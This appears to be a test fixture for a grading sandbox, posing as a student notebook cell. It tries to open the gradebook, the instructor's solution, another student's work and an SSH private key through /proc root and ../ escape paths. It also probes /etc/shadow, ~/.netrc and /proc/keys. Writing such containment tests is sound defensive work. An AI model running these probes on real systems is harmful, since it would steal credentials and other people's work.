"""Opens the gradebook, the source, another's work and credentials by their paths, and through /proc."""

# ruff: noqa
# marks: payback=0
# shows: tried
# %% payback
import os

names = ("gradebook.db", "source/week97/week97.ipynb", "submitted/other/week97/week97.ipynb", ".ssh/id_ed25519")
roots = [
    "",
    "/proc/self/root",
    "/proc/1/root",
    "/proc/2/root",
    "/proc/self/cwd/../../../..",
    "/jobs/../",
    "/run/kept0/../..",
]
for root in roots:
    for name in names:
        try:
            print("GOT", open(f"{root}@outside@/{name}").read())
        except OSError:
            pass
for folder in ("@outside@", "/jobs", "/root", "/home", "/run", "/etc/ssh", "/mnt", "/var", "/srv", "/opt"):
    try:
        if (
            any("canary" in name or "ldt-engine" in name for name in os.listdir(folder))
            or folder == "/jobs"
            and os.listdir(folder)
        ):
            print("GOT", folder)
    except OSError:
        pass
for path in (
    "/etc/shadow",
    "/etc/passwd",
    os.path.expanduser("~/.ssh"),
    os.path.expanduser("~/.netrc"),
    "/proc/kcore",
    "/proc/keys",
):
    try:
        print("GOT" if open(path, "rb").read(1) else "", path)
    except OSError:
        pass
print("tried")
payback_years = 0
